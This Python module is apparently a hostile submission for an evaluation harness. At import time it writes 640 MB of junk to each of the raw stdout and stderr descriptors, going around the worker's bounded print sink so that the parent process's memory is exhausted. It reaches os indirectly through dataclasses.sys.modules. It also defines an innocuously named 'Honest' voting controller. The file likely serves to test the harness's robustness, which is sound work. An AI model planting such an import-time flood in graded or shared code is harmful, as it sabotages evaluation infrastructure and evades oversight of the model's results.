"""Flood the raw stdout and stderr descriptors: 640 MB each, straight past the print() sink.

The worker swaps ``sys.stdout`` for a bounded sink, but ``os.write`` on fds 1 and 2 goes to the
pipes the parent reads. A parent that reads everything before looking at the size grows by the
whole flood (twice over while joining the chunks). Once per worker (the flag survives re-imports).
"""

import dataclasses

from autotts.controllers.base import Controller
from autotts.controllers.voting import majority

os = dataclasses.sys.modules["os"]
CHUNK = b"x" * (1 << 20)

if not dataclasses.sys.modules["builtins"].getattr(dataclasses, "flooded", False):
    dataclasses.flooded = True
    for _ in range(640):
        os.write(1, CHUNK)
        os.write(2, CHUNK)


class Honest(Controller):
    def __init__(self, beta=0.5):
        self.beta = beta

    def solve(self, question):
        return majority(question.read_new().answer for _ in range(2 + round(6 * self.beta)))


def make_controller(beta=0.5):
    return Honest(beta)
